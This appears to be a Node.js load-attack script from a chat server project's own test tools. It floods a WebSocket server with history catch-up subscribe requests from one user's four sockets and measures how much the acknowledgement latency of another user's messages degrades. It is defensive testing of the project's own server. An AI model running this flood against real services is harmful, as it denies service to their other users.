// Issue 15 item 2: one user with 4 sockets sends 150 subscribe{after:0} each on a room of
// 3000 x 4 KB, then 80 frames/s per socket for 2.5 s; another user sends one message per 100 ms
// and the latency of its acks is printed. Needs the `ws` package beside it (make bench puts it in
// build/peers): cp tools/attacks/catchup-storm.mjs build/peers/ && node build/peers/catchup-storm.mjs ws://HOST:PORT
// against a fresh server started with CHAT_SEND_RATE=100000 CHAT_SEND_BURST=100000.
import WebSocket from 'ws';
const base = process.argv[2];
const http = base.replace('ws://', 'http://');
async function reg(name) {
  const r = await fetch(http + '/api/v2/register', {method: 'POST', headers: {'content-type': 'application/json'},
    body: JSON.stringify({username: name, password: 'attack-password-1'})});
  return (await r.json()).token;
}
function open(token) {
  return new Promise((res, rej) => {
    const ws = new WebSocket(base + '/ws', 'chat.v2', {headers: {Authorization: 'Bearer ' + token}, maxPayload: 1 << 30});
    ws.on('message', d => { const f = JSON.parse(d); if (f.type === 'hello') res(ws); ws.emit('frame', f); });
    ws.on('error', rej);
  });
}
const seeder = await open(await reg('seeder'));
const body = 'x'.repeat(4000);
await new Promise(res => {
  let acked = 0;
  seeder.on('frame', f => { if (f.type === 'ack' && ++acked === 3000) res(); });
  for (let i = 0; i < 3000; ++i) seeder.send(JSON.stringify({type: 'send', room: 'general', clientId: 's' + i, body}));
});
console.log('seeded 3000 x 4 KB');
const victim = await open(await reg('victim'));
const pending = new Map(); const lat = [];
victim.on('frame', f => { if (f.type === 'ack' && pending.has(f.clientId)) { lat.push(performance.now() - pending.get(f.clientId)); pending.delete(f.clientId); } });
let n = 0;
const tick = setInterval(() => { const id = 'v' + (n++); pending.set(id, performance.now());
  victim.send(JSON.stringify({type: 'send', room: 'general', clientId: id, body: 'hi'})); }, 100);
await new Promise(r => setTimeout(r, 1000));
const before = lat.length;
const mt = await reg('mallory');
const socks = await Promise.all([0, 1, 2, 3].map(() => open(mt)));
let rx = 0; for (const s of socks) s.on('message', d => { rx += d.length; });
const t0 = performance.now();
for (const s of socks) for (let i = 0; i < 150; ++i) s.send(JSON.stringify({type: 'subscribe', room: 'general', after: 0}));
const flood = setInterval(() => { for (const s of socks) s.send(JSON.stringify({type: 'subscribe', room: 'general', after: 0})); }, 12.5);
await new Promise(r => setTimeout(r, 2500));
clearInterval(flood);
for (const s of socks) s.close();
const during = lat.slice(before);
await new Promise(r => setTimeout(r, 5000));
clearInterval(tick);
const after = lat.slice(before + during.length);
const st = a => { const s = [...a].sort((x, y) => x - y); return `n=${s.length} p50=${(s[s.length >> 1] || 0).toFixed(1)} max=${(s[s.length - 1] || 0).toFixed(1)} ms`; };
console.log('victim acks before attack:', st(lat.slice(0, before)));
console.log('victim acks during attack (2.5 s):', st(during));
console.log('victim acks in the 5 s after:', st(after), 'unacked', pending.size);
console.log('attacker received', (rx / 1048576).toFixed(1), 'MiB');
process.exit(0);
